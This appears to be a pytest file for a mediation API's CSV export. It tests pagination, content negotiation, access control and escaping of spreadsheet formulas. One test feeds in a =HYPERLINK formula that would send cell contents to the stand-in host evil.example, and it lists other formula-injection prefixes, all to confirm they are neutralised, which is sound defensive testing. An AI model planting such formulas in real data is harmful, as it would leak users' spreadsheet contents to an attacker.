"""Lists as CSV: the same rows as in JSON, whatever they hold, and nothing that a spreadsheet would execute."""

import csv
import io
import json
from collections.abc import Mapping

import httpx
import pytest
from pydantic import JsonValue

from mediation_api.dev.office import Answer, Caller, Office
from mediation_api.domain.access import Role
from mediation_api.http.csv_pages import _cell
from mediation_api.main import OPERATIONS


async def get(who: Caller, path: str, accept: str = "text/csv", **headers: str) -> httpx.Response:
    return await who.client.get(path, headers={"Authorization": f"Bearer {who.token}", "Accept": accept, **headers})


async def whole(who: Caller, path: str) -> str:
    """Read all pages, and put them together."""
    text, at = "", path
    while True:
        response = await get(who, at)
        assert response.status_code == 200, response.text
        text += response.content.decode("utf-8")
        if "Link" not in response.headers:
            return text
        at = response.headers["Link"].partition(">")[0].removeprefix("<")


def flat(item: Mapping[str, object], path: str) -> object:
    value: object = item
    for name in path.split("."):
        value = value[name] if isinstance(value, dict) else None
    return value


async def test_the_pages_of_a_list_are_one_file_with_the_fields_of_the_json(office: Office) -> None:
    for n in range(5):
        story = await office.file(complainants=[{"name": f'Zoë "Z" Núñez, {n}'}])
        await story.screen()
    read = await whole(office.coordinator, "/v1/cases?limit=2")
    assert read.startswith('\ufeff"id","complaint_id"')
    rows = list(csv.DictReader(io.StringIO(read.removeprefix("\ufeff"), newline="")))
    items: list[Answer] = (await office.coordinator.get("/v1/cases?limit=100"))["items"]  # type: ignore[assignment] # JSON
    assert [row["id"] for row in rows] == [item["id"] for item in items]
    for row, item in zip(rows, items, strict=True):
        assert row["target.due_on"] == flat(item, "target.due_on")
        assert row["next_session.starts_at"] == ""
        assert json.loads(row["participants"]) == item["participants"]
        assert None not in row, "a cell without a column"
        assert any(party["name"].startswith('Zoë "Z" Núñez') for party in json.loads(row["participants"]))


async def test_each_list_that_is_declared_to_have_it_has_it(office: Office) -> None:
    story = await office.file()
    declared = {name for name, operation in OPERATIONS.items() if operation.has_csv}
    for name in declared:
        words = "".join(f"-{letter.lower()}" if letter.isupper() else letter for letter in name.removeprefix("list"))
        of_case = name == "listAccessLog"
        path = f"{story.path if of_case else '/v1'}/{words.removeprefix('-')}"
        response = await get(office.director, path)
        assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present", path
        items: list[Answer] = (await office.director.get(path))["items"]  # type: ignore[assignment] # JSON
        # The access log also has the read of the file by now.
        assert response.text.count("\r\n") == len(["header", *items]) - of_case, path


async def test_the_text_of_a_stranger_is_no_formula_in_a_spreadsheet(office: Office) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    await office.file(narrative=formula, precinct="@SUM(1)")
    (row,) = csv.DictReader(
        io.StringIO((await whole(office.intake, "/v1/complaints")).removeprefix("\ufeff"), newline="")
    )
    assert (row["narrative"], row["precinct"]) == (f"'{formula}", "'@SUM(1)")


@pytest.mark.parametrize(
    "text",
    [
        *(
            "=1",
            "+1",
            "-1",
            "@x",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\uff1d1",
            "\uff0b1",
            "\uff0d1",
            "\uff20x",
            "|x",
            "%0A",
        ),
        *("\u200b=1", "\ufeff=1", "\u00ad\u2060=1", "\u00a0=1", "\u3000\uff1d1", "\tx"),
    ],
)
def test_what_begins_a_formula_is_marked_as_text(text: str) -> None:
    assert _cell(text) == f"'{text}"
    assert _cell([text, "x"]) == f"'{text}; x"


@pytest.mark.parametrize("text", ["", "a=1", "1-2", "Ana", "'=1", "Núñez", "2026-03-02", "x@y.example"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert _cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), (True, "true"), (-3, "-3"), (1.5, "1.5"), ([], ""), ([{"a": "ü"}], '[{"a": "ü"}]')],
)
def test_what_is_no_text_is_as_in_json(value: JsonValue, cell: str) -> None:
    assert _cell(value) == cell


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("text/csv", "text/csv"),
        ("text/csv, application/json;q=0.9", "text/csv"),
        ("text/csv;q=0.5, application/json", "application/json"),
        ("application/json, text/csv", "text/csv"),
        ("*/*", "application/json"),
        ("text/csv;q=0, */*", "application/json"),
        ("text/csv;header=absent", "text/csv"),
    ],
)
async def test_the_caller_chooses(office: Office, accept: str, media_type: str) -> None:
    response = await get(office.coordinator, "/v1/cases", accept)
    assert (response.status_code, response.headers["content-type"].partition(";")[0]) == (200, media_type)


async def test_only_the_office_gets_a_file(office: Office) -> None:
    story = await office.file()
    for who in (story.complainants[0], office.caller(Role.MEDIATOR)):
        assert (await get(who, "/v1/cases")).status_code == 406
    assert (await get(office.integration, "/v1/complaints")).status_code == 406
    assert (await get(office.coordinator, story.path)).status_code == 406, "one object is no list"


async def test_it_has_an_entity_tag_and_problems_as_ever(office: Office) -> None:
    first = await get(office.coordinator, "/v1/cases")
    again = await get(office.coordinator, "/v1/cases", **{"If-None-Match": first.headers["ETag"]})
    assert (again.status_code, again.content) == (304, b"")
    assert first.headers["ETag"] != (await office.coordinator.send("GET", "/v1/cases")).headers["ETag"]
    refused = await get(office.coordinator, "/v1/cases?state=lost")
    assert (refused.status_code, refused.headers["content-type"]) == (422, "application/problem+json")
